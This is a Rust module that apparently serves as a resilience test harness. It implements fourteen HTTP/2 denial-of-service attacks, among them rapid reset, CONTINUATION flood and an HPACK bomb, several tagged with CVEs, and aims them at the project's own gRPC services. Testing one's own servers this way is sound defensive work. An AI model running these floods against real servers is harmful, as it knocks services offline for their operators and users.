//! Attacks with HTTP/2 frames.

use std::time::Duration;

use super::{
    ClientAttack, Scope,
    lane::{Lane, RawConnection},
};
use crate::{
    frames::{
        CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, MAX_PAYLOAD, PING, PRIORITY,
        RST_STREAM, SETTINGS, WINDOW_UPDATE, call_headers, frame, framed, put_header,
        put_indexed_header,
    },
    target::Service,
};

/// Frames in one write.
const BATCH: usize = 200;

pub(super) const ATTACKS: &[ClientAttack] = &[
    ClientAttack {
        name: "settings-flood",
        description: "sends SETTINGS without pause and reads no acknowledgement (CVE-2019-9515)",
        scope: Scope::Any,
        lanes: 4,
        run: |lane| Box::pin(settings_flood(lane)),
    },
    ClientAttack {
        name: "ping-flood",
        description: "sends PINGs without pause and reads no answer (CVE-2019-9512)",
        scope: Scope::Any,
        lanes: 4,
        run: |lane| Box::pin(ping_flood(lane)),
    },
    ClientAttack {
        name: "rapid-reset",
        description: "opens calls and resets them at once (CVE-2023-44487)",
        scope: Scope::Any,
        lanes: 4,
        run: |lane| Box::pin(rapid_reset(lane)),
    },
    ClientAttack {
        name: "provoked-reset",
        description: "makes the server reset its streams with wrong frames (CVE-2025-8671)",
        scope: Scope::Any,
        lanes: 4,
        run: |lane| Box::pin(provoked_reset(lane)),
    },
    ClientAttack {
        name: "continuation-flood",
        description: "sends a header block that never ends (CVE-2024-27316)",
        scope: Scope::Any,
        lanes: 4,
        run: |lane| Box::pin(continuation_flood(lane)),
    },
    ClientAttack {
        name: "hpack-bomb",
        description: "names one large header of the dynamic table thousands of times",
        scope: Scope::Any,
        lanes: 4,
        run: |lane| Box::pin(hpack_bomb(lane)),
    },
    ClientAttack {
        name: "huge-headers",
        description: "sends one megabyte of headers with each call",
        scope: Scope::Any,
        lanes: 4,
        run: |lane| Box::pin(huge_headers(lane)),
    },
    ClientAttack {
        name: "empty-frames",
        description: "sends DATA frames without data and header blocks without headers (CVE-2019-9518)",
        scope: Scope::Any,
        lanes: 4,
        run: |lane| Box::pin(empty_frames(lane)),
    },
    ClientAttack {
        name: "priority-flood",
        description: "sends priorities of streams that do not exist (CVE-2019-9513)",
        scope: Scope::Any,
        lanes: 4,
        run: |lane| Box::pin(priority_flood(lane)),
    },
    ClientAttack {
        name: "window-overflow",
        description: "opens the window of a stream and of the connection beyond 2^31 - 1",
        scope: Scope::Any,
        lanes: 4,
        run: |lane| Box::pin(window_overflow(lane)),
    },
    ClientAttack {
        name: "window-changes",
        description: "changes the window of all streams up and down while they send",
        scope: Scope::Any,
        lanes: 4,
        run: |lane| Box::pin(window_changes(lane)),
    },
    ClientAttack {
        name: "ignored-windows",
        description: "sends request bytes without regard to the server's windows",
        scope: Scope::Any,
        lanes: 4,
        run: |lane| Box::pin(ignored_windows(lane)),
    },
    ClientAttack {
        name: "half-a-frame",
        description: "announces a frame of 16 KiB and sends half, on 200 connections",
        scope: Scope::Any,
        lanes: 200,
        run: |lane| Box::pin(half_a_frame(lane)),
    },
    ClientAttack {
        name: "malformed-frames",
        description: "sends frames of random kind, flags, stream and payload",
        scope: Scope::Any,
        lanes: 8,
        run: |lane| Box::pin(malformed_frames(lane)),
    },
];

/// The path of a call that every target serves.
fn path(lane: &Lane) -> &'static str {
    match lane.target.service {
        Service::Index => "/potluck.v1.IndexService/GetStats",
        Service::Peer => "/potluck.v1.PeerService/Identify",
    }
}

/// Sends the same frames until the server closes the connection.
async fn repeat(mut connection: RawConnection, bytes: &[u8]) -> Option<()> {
    let batch = bytes.repeat(BATCH);
    loop {
        connection.send(BATCH, &batch).await?;
        tokio::task::yield_now().await;
    }
}

async fn settings_flood(lane: Lane) -> Option<()> {
    // MAX_CONCURRENT_STREAMS: 100.
    let settings = frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100]);
    repeat(lane.open_deaf().await?, &settings).await
}

async fn ping_flood(lane: Lane) -> Option<()> {
    repeat(lane.open_deaf().await?, &frame(PING, 0, 0, &[7; 8])).await
}

/// Numbers of the streams of a client.
fn streams() -> impl Iterator<Item = u32> {
    (1..1 << 30).step_by(2)
}

async fn rapid_reset(lane: Lane) -> Option<()> {
    let mut connection = lane.open_raw().await?;
    let headers = call_headers(path(&lane));
    let mut batch = Vec::new();
    for (number, stream) in streams().enumerate() {
        batch.extend(frame(HEADERS, END_HEADERS, stream, &headers));
        batch.extend(frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
        if number % BATCH == BATCH - 1 {
            connection.send(BATCH, &batch).await?;
            batch.clear();
            tokio::task::yield_now().await;
        }
    }
    Some(())
}

async fn provoked_reset(lane: Lane) -> Option<()> {
    let mut connection = lane.open_raw().await?;
    let headers = call_headers(path(&lane));
    let mut batch = Vec::new();
    for (number, stream) in streams().enumerate() {
        batch.extend(frame(HEADERS, END_HEADERS, stream, &headers));
        // An increment of zero is an error of the stream.
        batch.extend(frame(WINDOW_UPDATE, 0, stream, &[0; 4]));
        if number % BATCH == BATCH - 1 {
            connection.send(BATCH, &batch).await?;
            batch.clear();
            tokio::task::yield_now().await;
        }
    }
    Some(())
}

async fn continuation_flood(lane: Lane) -> Option<()> {
    let mut connection = lane.open_raw().await?;
    connection
        .send(1, &frame(HEADERS, 0, 1, &call_headers(path(&lane))))
        .await?;
    let mut block = Vec::new();
    put_header(&mut block, "x-header", &[b'x'; 4_000]);
    repeat(connection, &frame(CONTINUATION, 0, 1, &block)).await
}

async fn hpack_bomb(lane: Lane) -> Option<()> {
    let mut connection = lane.open_raw().await?;
    for stream in streams() {
        let mut headers = call_headers(path(&lane));
        if stream == 1 {
            put_indexed_header(&mut headers, "x-bomb", &[b'x'; 3_900]);
        }
        // The newest entry of the dynamic table has index 62: one byte stands for 4 KiB.
        headers.resize(MAX_PAYLOAD - 1, 0x80 | 62);
        let call = frame(HEADERS, END_HEADERS | END_STREAM, stream, &headers);
        connection.send(1, &call).await?;
        tokio::task::yield_now().await;
    }
    Some(())
}

async fn huge_headers(lane: Lane) -> Option<()> {
    let mut connection = lane.open_raw().await?;
    let mut more = Vec::new();
    put_header(&mut more, "x-huge", &[b'x'; 15_000]);
    for stream in streams() {
        let mut call = frame(HEADERS, END_STREAM, stream, &call_headers(path(&lane)));
        for _ in 0..64 {
            call.extend(frame(CONTINUATION, 0, stream, &more));
        }
        call.extend(frame(CONTINUATION, END_HEADERS, stream, &more));
        connection.send(1, &call).await?;
        tokio::task::yield_now().await;
    }
    Some(())
}

async fn empty_frames(lane: Lane) -> Option<()> {
    let mut connection = lane.open_raw().await?;
    let call = match rand::random() {
        true => frame(HEADERS, END_HEADERS, 1, &call_headers(path(&lane))),
        false => frame(HEADERS, 0, 1, &call_headers(path(&lane))),
    };
    connection.send(1, &call).await?;
    let kind = if call[4] == 0 { CONTINUATION } else { DATA };
    repeat(connection, &frame(kind, 0, 1, &[])).await
}

async fn priority_flood(lane: Lane) -> Option<()> {
    let mut connection = lane.open_raw().await?;
    let mut batch = Vec::new();
    for (number, stream) in streams().enumerate() {
        batch.extend(frame(PRIORITY, 0, stream, &[0, 0, 0, 1, 7]));
        if number % BATCH == BATCH - 1 {
            connection.send(BATCH, &batch).await?;
            batch.clear();
            tokio::task::yield_now().await;
        }
    }
    Some(())
}

async fn window_overflow(lane: Lane) -> Option<()> {
    let mut connection = lane.open_raw().await?;
    let call = frame(HEADERS, END_HEADERS, 1, &call_headers(path(&lane)));
    connection.send(1, &call).await?;
    let most = 0x7fff_ffff_u32.to_be_bytes();
    let stream = if rand::random() { 1 } else { 0 };
    repeat(connection, &frame(WINDOW_UPDATE, 0, stream, &most)).await
}

async fn window_changes(lane: Lane) -> Option<()> {
    let mut connection = lane.open_raw().await?;
    let headers = call_headers(path(&lane));
    for stream in streams().take(100) {
        connection
            .send(1, &frame(HEADERS, END_HEADERS, stream, &headers))
            .await?;
    }
    // INITIAL_WINDOW_SIZE: 1, and the largest.
    let small = frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 1]);
    let large = frame(SETTINGS, 0, 0, &[0, 4, 0x7f, 0xff, 0, 0]);
    repeat(connection, &[small, large].concat()).await
}

async fn ignored_windows(lane: Lane) -> Option<()> {
    let mut connection = lane.open_raw().await?;
    let call = frame(HEADERS, END_HEADERS, 1, &call_headers(path(&lane)));
    connection.send(1, &call).await?;
    repeat(connection, &frame(DATA, 0, 1, &[0; MAX_PAYLOAD])).await
}

async fn half_a_frame(lane: Lane) -> Option<()> {
    let mut connection = lane.open_raw().await?;
    let call = frame(HEADERS, END_HEADERS, 1, &call_headers(path(&lane)));
    let whole = [call, frame(DATA, 0, 1, &framed(&[0; MAX_PAYLOAD - 5]))].concat();
    connection.send(1, &whole[..whole.len() / 2]).await?;
    connection.closed().await;
    Some(())
}

async fn malformed_frames(lane: Lane) -> Option<()> {
    let mut connection = lane.open_raw().await?;
    for _ in 0..BATCH {
        let payload: [u8; 64] = rand::random();
        let length = usize::from(payload[0]) % payload.len();
        let (kind, flags, stream) = rand::random::<(u8, u8, u8)>();
        let frame = frame(kind % 12, flags, stream.into(), &payload[..length]);
        connection.send(1, &frame).await?;
    }
    let closed = tokio::time::timeout(Duration::from_secs(1), connection.closed());
    let _ = closed.await;
    Some(())
}
